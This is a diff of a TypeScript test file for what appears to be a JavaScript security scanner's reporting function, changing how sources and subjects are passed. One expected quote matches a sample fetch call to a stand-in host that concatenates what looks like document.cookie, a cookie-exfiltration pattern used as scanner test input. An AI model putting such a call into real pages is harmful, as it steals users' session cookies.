@@ -33,7 +33,8 @@ test("sorted by severity, then by place; one per rule and place; each advice onc
 			rule("mild", [finding("low", 5), finding("low", 0)]),
 			rule("grave", [finding("medium", 10), finding("critical", 10), finding("high", 5)]),
 		],
-		subject,
+		read.source,
+		[subject],
 	);
 	expect(report.vulnerabilities.map(({ type, severity, line }) => `${type} ${severity} ${line}`)).toEqual([
 		"grave critical 3",
@@ -47,7 +48,9 @@ test("sorted by severity, then by place; one per rule and place; each advice onc
 
 test("several findings of a rule at one place are reported when they are about different things", () => {
 	const about = (what: string): Finding => ({ ...finding("high", 5), about: what });
-	const { vulnerabilities } = reportFindings([rule("loads", [about("a"), about("b"), about("b")])], subject);
+	const { vulnerabilities } = reportFindings([rule("loads", [about("a"), about("b"), about("b")])], read.source, [
+		subject,
+	]);
 	expect(vulnerabilities).toHaveLength(2);
 });
 
@@ -56,7 +59,9 @@ test("a place in a long line is quoted, one in a short line is not", () => {
 	const minified = parseSource({ code: `short();\n${long}` });
 	if (!minified.ok) throw new Error(minified.message);
 	const places = [0, minified.source.text.indexOf("fetch")].map((offset) => finding("low", offset));
-	const { vulnerabilities } = reportFindings([rule("mild", places)], { ...subject, source: minified.source });
+	const { vulnerabilities } = reportFindings([rule("mild", places)], minified.source, [
+		{ ...subject, source: minified.source },
+	]);
 	expect(vulnerabilities.map(({ line, column, quote }) => [line, column, quote])).toEqual([
 		[1, 1, undefined],
 		[2, 321, expect.stringMatching(/^\);a\(\);a\(\);fetch\("https:\/\/c\.test\/" \+ document\.co/)],
